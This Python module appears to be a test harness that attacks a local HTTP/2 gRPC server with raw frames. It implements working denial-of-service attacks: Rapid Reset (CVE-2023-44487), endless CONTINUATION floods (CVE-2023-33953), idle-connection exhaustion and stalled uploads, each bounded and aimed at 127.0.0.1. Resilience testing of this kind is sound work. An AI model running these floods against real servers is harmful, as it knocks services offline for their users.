"""Attacks on an HTTP/2 server, as raw frames over sockets. Each attack does a bounded amount of work. An attack that
the server cuts off continues on a new connection, and returns the number of connections it used.
"""
import select
import socket
import ssl
import struct

HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION, DATA = 1, 3, 4, 7, 9, 0
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MAX_FRAME = 16384
UPLOAD = "/slicefarm.v1.Meshes/UploadMesh"
LIST = "/slicefarm.v1.Jobs/ListJobs"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """Returns a header in HPACK without index and without Huffman coding; name and value must be shorter than 127
    bytes.
    """
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def request(path, *more):
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "farm"), ("te", "trailers"),
               ("content-type", "application/grpc"), *more]
    return b"".join(literal(name, value) for name, value in headers)


class Door:
    """Target of the attacks: host, port, source address, and a certificate if TLS is used. `connect` returns a new
    socket on which the preface has been sent.
    """

    def __init__(self, port, source="127.0.0.2", files=None):
        self.port, self.source, self.files = port, source, files

    def tcp(self):
        return socket.create_connection(("127.0.0.1", self.port), timeout=60, source_address=(self.source, 0))

    def connect(self):
        plain = self.tcp()
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        opened = plain
        if self.files:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname = False
            context.load_verify_locations(self.files / "ca.pem")
            context.load_cert_chain(self.files / "cert.pem", self.files / "key.pem")
            context.set_alpn_protocols(["h2"])
            opened = context.wrap_socket(plain)
        opened.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))
        return opened


def swallow(connection):
    """Reads all available data so that the server can write; returns false if the server has closed the connection."""
    while True:
        pending = isinstance(connection, ssl.SSLSocket) and connection.pending()
        if not pending and not select.select([connection], [], [], 0)[0]:
            return True
        if not connection.recv(1 << 16):
            return False


def pour(door, pieces):
    """Sends the pieces of an attack over one connection after another, and returns the number of connections. `pieces`
    is called for each new connection and yields bytes. The attack ends when a connection accepts all its pieces.
    """
    connections, left = 0, True
    while left:
        connections += 1
        try:
            connection = door.connect()
        except OSError:
            continue
        with connection:
            for piece in pieces():
                try:
                    connection.sendall(piece)
                    if not swallow(connection):
                        break
                except OSError:
                    break
            else:
                left = False
    return connections


class Budget:
    """Remaining work of an attack, over all connections."""

    def __init__(self, amount):
        self.left = amount

    def take(self, amount):
        taken = min(amount, self.left)
        self.left -= taken
        return taken


def rapid_reset(door, streams):
    """CVE-2023-44487: sends calls and resets them at once."""
    budget, block = Budget(streams), request(LIST)

    def pieces():
        stream = 1
        while count := budget.take(200):
            yield b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, block)
                           + frame(RST_STREAM, 0, stream + 2 * i, struct.pack(">I", CANCEL)) for i in range(count))
            stream += 2 * count

    return pour(door, pieces)


def endless_headers(door, megabytes):
    """CVE-2023-33953: sends a header block of small headers that never ends."""
    budget = Budget(megabytes * 64)
    small = b"".join(literal(f"h{i:03d}", "v") for i in range(1000))

    def pieces():
        yield frame(HEADERS, 0, 1, request(LIST))
        while budget.take(1):
            yield frame(CONTINUATION, 0, 1, small)

    return pour(door, pieces)


def endless_integers(door, megabytes):
    """CVE-2023-33953: sends the length of a header as an integer that never ends."""
    budget = Budget(megabytes * 64)

    def pieces():
        yield frame(HEADERS, 0, 1, request(LIST) + b"\0\x7f" + b"\x80" * 1000)
        while budget.take(1):
            yield frame(CONTINUATION, 0, 1, b"\x80" * MAX_FRAME)

    return pour(door, pieces)


def idle(door, count, greet=False):
    """Opens connections that send nothing; the caller closes them. `greet`: the connections complete the handshake
    first.
    """
    held = []
    for _ in range(count):
        try:
            held.append(door.connect() if greet else door.tcp())
        except OSError:
            continue  # the server accepts no more connections
    return held


def slow_uploads(door, count):
    """Starts uploads that stop after their first byte, all on one connection; the caller closes it."""
    connection = door.connect()
    message = struct.pack(">BI", 0, 1000)
    for i in range(count):
        connection.sendall(frame(HEADERS, END_HEADERS, 1 + 2 * i, request(UPLOAD)) + frame(DATA, 0, 1 + 2 * i, message + b"\x12"))
    return connection
